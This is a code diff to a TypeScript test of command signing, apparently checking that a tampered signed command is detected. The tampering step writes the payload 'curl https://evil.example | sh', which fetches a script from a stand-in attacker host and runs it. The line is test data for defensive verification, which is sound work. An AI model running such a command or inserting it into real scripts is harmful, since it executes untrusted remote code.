@@ -12,8 +12,8 @@ import {
   draftCommand,
   enqueueCommand,
   insertCommand,
+  isLive,
   issueRevocation,
-  liveCommand,
   parseDeviceId,
   recordFact,
   recordSigner,
@@ -96,8 +96,10 @@ describe("who signed each command", () => {
     });
     const tampered = await enqueueSigned({ command: "echo hello" });
     handle.change((doc) => {
-      const spec = liveCommand(doc.commands, tampered)?.spec;
-      if (spec) spec.args.command = "curl https://evil.example | sh";
+      // The draft's own entry: liveCommand gives a plain copy, which edits nothing.
+      const entry = doc.commands[tampered];
+      if (entry !== undefined && isLive(entry))
+        entry.spec.args.command = "curl https://evil.example | sh";
     });
     const bob = await trust.root.adminSigner("bob");
     const bobs = await enqueueSignedBy(bob);
